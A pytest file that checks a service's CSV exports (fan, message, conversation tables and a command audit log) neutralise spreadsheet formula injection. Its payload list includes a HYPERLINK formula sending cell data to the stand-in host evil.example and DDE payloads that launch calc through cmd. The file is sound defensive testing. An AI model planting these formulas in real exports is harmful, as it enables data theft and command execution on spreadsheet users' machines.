"""CSV exports never hand a spreadsheet a formula (OWASP "CSV injection").

Fan names and texts are hostile: a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage
return is a formula in Excel, LibreOffice and Google Sheets. Every CSV the Brain writes (the
graph's conversation, fan and message tables, the command audit log) must show it as text.
"""

import csv
import io
from datetime import UTC, datetime

import pytest

from contracts.csv_cells import safe_cell
from contracts.events import FanProfileSeen, MessageAdded, make_event_id
from contracts.models.commands import CommandRequest, SendMessageCommand
from services.command.ledger import Ledger
from services.graph.exports import render
from services.graph.state import CreatorState
from services.graph.views import NodeCache

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]
CREATOR, FAN = 300000, 400001
NOW = int(datetime(2026, 12, 1, tzinfo=UTC).timestamp() * 1000)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def is_formula(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_graph_csv_tables_show_hostile_names_and_texts_as_text(payload: str) -> None:
    state = CreatorState(CREATOR)
    state.apply(
        FanProfileSeen(
            event_id=make_event_id(f"p{payload}"), creator_id=CREATOR, fan_id=FAN,
            name=payload, username=payload,
        )
    )  # fmt: skip
    state.apply(
        MessageAdded(
            FAN, 1, "in", FAN, NOW - 1000, payload, payload, 0.0, True, False, 0, (), False,
            False, "snapshot", event_id=make_event_id(f"m{payload}"), creator_id=CREATOR,
        )
    )  # fmt: skip
    for table in ("conversations", "fans", "messages"):
        text = render(state, NodeCache(), table, "csv", NOW).decode()
        found = cells(text)
        assert not [c for c in found if is_formula(c)], (table, found)
        assert f"'{payload}" in found, table  # kept, as text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_command_audit_csv_shows_hostile_texts_as_text(payload: str) -> None:
    at = datetime(2026, 12, 1, tzinfo=UTC)
    command = SendMessageCommand(
        command_id="c1", user_id="7", chat_id="9", text=payload, created_at=at
    )
    ledger = Ledger()
    ledger.request(
        "7", CommandRequest(command=command, requested_by="analyst:t1", via="rest", at=at)
    )
    found = cells(ledger.audit_csv("7"))
    assert not [c for c in found if is_formula(c)]
    assert f"'{payload}" in found


def test_numbers_and_ordinary_text_are_unchanged() -> None:
    assert safe_cell(-5.0) == -5.0 and safe_cell(3) == 3 and safe_cell(None) is None
    assert safe_cell("hello = world") == "hello = world"
    assert safe_cell("") == ""
